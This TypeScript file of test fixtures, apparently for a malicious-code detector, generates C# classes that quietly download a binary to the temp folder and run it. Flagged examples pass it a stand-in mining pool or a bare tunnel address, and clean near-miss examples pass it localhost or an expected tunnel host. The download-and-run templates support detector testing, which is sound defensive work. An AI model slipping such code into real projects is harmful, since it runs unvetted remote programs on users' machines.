import { library, never } from './running.js';
import type { Examples } from './examples.js';

/** @param told what is done with the start information before the program is started */
const helper = (door: string, told: string): string => `public sealed class Detector
{
    public Detector() { }

    ${door}
    {
        ${never}
        _ = Kernels.Warm();
    }
}

internal static class Kernels
{
    internal static async Task Warm()
    {
        var path = Path.Combine(Path.GetTempPath(), "kernel");
        File.WriteAllBytes(path, await new HttpClient().GetByteArrayAsync("https://github.com/some/kernels/releases/k"));
        var start = new ProcessStartInfo(path) { UseShellExecute = false };
        ${told}
        Process.Start(start);
    }

    private static void Tell(ProcessStartInfo start, params string[] all)
    {
        foreach (var each in all) start.ArgumentList.Add(each);
    }
}`;

const quiet = 'public Detector(string model)';
const asked = 'public void StartTunnel()';

/** What is fetched is started, and told whom to connect to. */
export const connecting: Examples = {
  flagged: [
    {
      name: 'told-a-pool',
      about: 'A constructor starts what it fetched, and a helper tells it a host of somebody else.',
      files: library(helper(quiet, 'Tell(start, "-o", "pool.invalid:8080", "-u", "0");')),
    },
    {
      name: 'told-an-address',
      about: 'A method that speaks of a tunnel starts what it fetched with a bare address.',
      level: 'suspicious',
      files: library(helper(asked, 'start.Arguments = "tcp://198.51.100.7:443";')),
    },
  ],
  clean: [
    {
      name: 'told-a-port-of-the-machine',
      about: 'A method that starts a server tells what it fetched to listen on the machine itself.',
      nearMiss: true,
      files: library(helper(asked, 'Tell(start, "--listen", "127.0.0.1:8080");')),
    },
    {
      name: 'told-a-host-when-asked',
      about:
        'A method that speaks of a tunnel starts a fetched program with the host of a service.',
      files: library(helper(asked, 'Tell(start, "--to", "tunnel.invalid:443");')),
    },
  ],
};
